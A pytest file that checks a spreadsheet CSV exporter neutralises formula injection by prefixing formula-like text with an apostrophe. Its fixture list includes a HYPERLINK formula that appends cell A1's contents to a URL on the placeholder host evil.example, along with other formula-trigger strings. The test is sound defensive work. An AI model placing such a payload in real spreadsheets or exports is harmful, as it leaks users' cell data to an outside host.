"""CSV for spreadsheets (annotate/domain/exports/spreadsheet.py): a text a spreadsheet would read
as a formula gets a leading apostrophe; other values, and numbers, are written as they are."""

from __future__ import annotations

import pandas as pd

from annotate.domain.exports.spreadsheet import spreadsheet_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB",
    "\rCR",
]


def test_formula_texts_get_an_apostrophe_and_the_rest_stays(tmp_path):
    frame = pd.DataFrame(
        {
            "text": [*HOSTILE, "plain words", "a = b"],
            "score": [-2, 1, 2, 3, 4, 5, -1, 0],  # numbers, negative ones too, are not text
        }
    )
    path = tmp_path / "out.csv"
    text = spreadsheet_csv(frame, path)
    assert path.read_bytes().decode("utf-8") == text
    back = pd.read_csv(path, keep_default_na=False)  # "\rCR" stays in its cell (CRLF rows)
    assert list(back["text"]) == [*("'" + h for h in HOSTILE), "plain words", "a = b"]
    assert list(back["score"]) == [-2, 1, 2, 3, 4, 5, -1, 0]
    assert frame["text"].iloc[0].startswith("=")  # the frame itself is left as it was
